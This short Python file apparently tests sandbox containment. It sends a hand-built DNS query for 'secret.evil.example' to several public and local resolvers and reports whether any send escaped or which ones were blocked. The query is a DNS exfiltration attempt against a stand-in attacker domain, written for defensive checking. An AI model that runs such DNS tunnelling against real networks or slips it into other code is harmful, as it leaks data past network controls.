# Tries: to ask name servers itself.
import errno
import socket

QUESTION = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x06secret\x04evil\x07example\x00\x00\x01\x00\x01"


def run(args, context):
    stopped = {}
    for server in ("8.8.8.8", "1.1.1.1", "127.0.0.53", "169.254.169.253"):
        try:
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asker:
                asker.settimeout(0.5)
                asker.sendto(QUESTION, (server, 53))
                return {"escaped": f"{server}: sent"}
        except OSError as error:
            stopped[server] = errno.errorcode.get(error.errno, type(error).__name__)
    return {"stopped": stopped}
